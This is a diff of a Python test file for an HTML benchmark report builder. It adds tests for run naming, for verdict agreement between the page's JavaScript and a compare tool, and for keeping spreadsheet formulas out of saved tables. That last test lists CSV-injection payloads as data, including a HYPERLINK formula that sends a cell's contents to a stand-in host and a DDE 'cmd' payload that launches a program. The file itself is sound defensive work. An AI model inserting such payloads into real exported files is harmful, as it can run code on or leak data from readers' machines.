@@ -14,6 +14,7 @@ from browser import BROWSER, DRIVER, MISSING, open_browser, resize, settle
 from colour_vision import luminance
 from made_run import figure, make_run
 
+from bench.analysis.compare import compare
 from bench.measure.metrics.table import METRICS
 from bench.report.html import write_report
 from bench.report.html.build import report_data
@@ -21,6 +22,7 @@ from bench.results.reader import Run
 from bench.util.files import is_formula, no_formula
 
 NODE = shutil.which("node")
+needs_node = pytest.mark.skipif(NODE is None, reason="no node on this machine (Debian: apt-get install nodejs)")
 NAMES = ["gensc", "linear", "jpeg-ldpc-16qam"]
 
 
@@ -87,7 +89,7 @@ def test_nobody_gains_in_the_page_by_losing_the_hard_pictures(tmp_path):
     )  # fmt: skip
     plain, faded = report_data([Run.open(chosen)], 24)["figures"]
     assert plain["pairs"]["psnr_db"] == []
-    ((a, b, _, mean, _, _, n),) = faded["pairs"]["psnr_db"]
+    ((a, b, _, mean, _, _, n, _),) = faded["pairs"]["psnr_db"]
     assert (a, b, n) == ("mine", "other", 8) and mean < 0
 
 
@@ -99,6 +101,36 @@ def test_no_two_systems_of_third_parties_share_colour_and_dash(tmp_path):
     shown = report_data([Run.open(folder)], 0)["systems"]
     assert shown["rival"]["colour"] == shown["his77"]["colour"] == "#123456"
     assert len({(shown[name]["colour"], tuple(shown[name]["dash"])) for name in names}) == len(names)
+
+
+def test_two_runs_of_one_name_keep_their_own_facts(tmp_path):
+    """Each has its name, its label, its values and its pictures in the page."""
+    folders = [tmp_path / "mine" / "run", tmp_path / "theirs" / "run", tmp_path / "third" / "run (2)"]
+    runs = []
+    for place, folder in enumerate(folders):
+        facts = {"gensc": {"parameters": 100 + place}}
+        shown = [figure("fig4", ["gensc"], snrs=[6.0], pictures=[6.0])]
+        runs.append(Run.open(make_run(folder, shown, lambda *_, place=place: 20.0 + place, systems=facts)))
+    data = report_data(runs, 24)
+    names = ["run", "run (3)", "run (2)"]
+    assert [run["name"] for run in data["runs"]] == [one["run"] for one in data["figures"]] == names
+    assert [run["manifest"]["run"] for run in data["runs"]] == ["run", "run", "run (2)"]
+    keys = [f"{name}:gensc" for name in names]
+    assert [one["systems"] for one in data["figures"]] == [[key] for key in keys]
+    assert [data["systems"][key]["parameters"] for key in keys] == [100, 101, 102]
+    assert [data["systems"][key]["label"] for key in keys] == [f"{name}: GenSC" for name in names]
+    values = [one["points"]["psnr_db"][key][0][0] for one, key in zip(data["figures"], keys, strict=True)]
+    assert values == pytest.approx([20.0, 21.0, 22.0])
+    items = data["pictures"]["items"]
+    assert {(item["run"], *(output["system"] for output in item["outputs"])) for item in items} == set(zip(names, keys))
+    assert {claim["run"] for claim in data["claims"]} == set(names)
+
+
+def test_a_colon_in_a_name_makes_no_system_of_another_run(tmp_path):
+    pairs = (("a:b", "c"), ("a", "b:c"))
+    runs = [Run.open(make_run(tmp_path / run, [figure("fig4", [system], snrs=[6.0])], lambda *_: 20.0))
+            for run, system in pairs]  # fmt: skip
+    assert set(report_data(runs, 0)["systems"]) == {"a_b:c", "a:b:c"}
 
 
 def test_metrics_are_named_and_shown_as_their_records_say(run):
@@ -117,7 +149,56 @@ def test_a_page_carries_no_more_pictures_than_asked(run):
     assert len(none["items"]) <= 1 and none["left_out"] >= 3
 
 
-@pytest.mark.skipif(NODE is None, reason="no node on this machine (Debian: apt-get install nodejs)")
+def _with_seeds(folder, step):
+    """A run in which `gensc` leads `linear` by 0.3 dB at one SNR, and three trainings of it, `step` dB apart."""
+
+    def made(run, systems, more):
+        lead = {"gensc": 0.3 + more, "linear": 0.0}
+        figures = [figure("fig4", systems, snrs=[6.0])]
+        return make_run(run, figures, lambda f, system, snr, index: 20 + index + lead[system])
+
+    made(folder, ["gensc", "linear"], 0.0)
+    for training in range(3):
+        made(folder / "seeds" / str(training), ["gensc"], step * training)
+    return Run.open(folder)
+
+
+@needs_node
+@pytest.mark.parametrize("step, word", [(0.25, "ahead"), (0.35, "undecided"), (None, "ahead")])
+def test_the_page_decides_no_more_than_compare(tmp_path, step, word):
+    """A difference that another seed of training could make is undecided there too, from both sides, in any metric."""
+    run = _with_seeds(tmp_path / "run", step or 0.0)
+    (shown,) = report_data([run], 0)["figures"]
+    few = report_data([run], 0)["few"]
+    code = (files("bench.report.html") / "verdict.js").read_text(encoding="utf-8")
+    for metric in ("psnr_db", "psnr_of_mean_mse_db"):
+        ((a, b, _, mean, low, high, n, spread),) = shown["pairs"][metric]
+        assert (a, b) == ("gensc", "linear") and spread == pytest.approx(step or 0.0, abs=1e-6)
+        gap = {"mean": mean, "low": low, "high": high, "n": n, "spread": spread}
+        turned = gap | {"mean": -mean, "low": -high, "high": -low}
+        said = _verdicts(code, [(gap, few, True), (turned, few, True), (turned, few, False)])
+        assert said == [word, {"ahead": "behind"}.get(word, word), word]
+        table = compare("gensc", "linear", run=run.directory, metric=metric)
+        assert list(table["verdict"]) == [{"ahead": "A"}.get(word, word)]
+
+
+@needs_node
+def test_the_words_of_the_page_are_those_of_compare():
+    code = (files("bench.report.html") / "verdict.js").read_text(encoding="utf-8")
+    gap = {"mean": 1.0, "low": 0.5, "high": 1.5, "n": 8, "spread": 0.0}
+    around = {"low": -0.5, "high": 2.5}
+    tied, alone = {"mean": 0.0, "low": 0.0, "high": 0.0}, {"low": None, "high": None, "n": 1}
+    changes = [{}, {"spread": 1.0}, {"spread": 1.1}, around, around | {"n": 6}, tied | {"n": 6}, alone]
+    said = _verdicts(code, [(gap | change, 7, True) for change in changes])
+    assert said == ["ahead", "ahead", "undecided", "tied", "undecided", "tied", "no interval"]
+
+
+def _verdicts(code, calls):
+    code += f"process.stdout.write(JSON.stringify({json.dumps(calls)}.map((call) => verdictOf(...call))))"
+    return json.loads(subprocess.run([NODE, "-e", code], capture_output=True, check=True).stdout)
+
+
+@needs_node
 def test_no_text_is_a_formula_in_a_table_that_the_page_saves():
     """A label, a licence or a picture's name could start a program on the machine of a reader."""
     formulas = ["=1+1", '=HYPERLINK("http://x/?a="&A1,"b")', "+A1", "-1+cmd|' /C calc'!A1", "@SUM(A1)", " =A1", "-"]
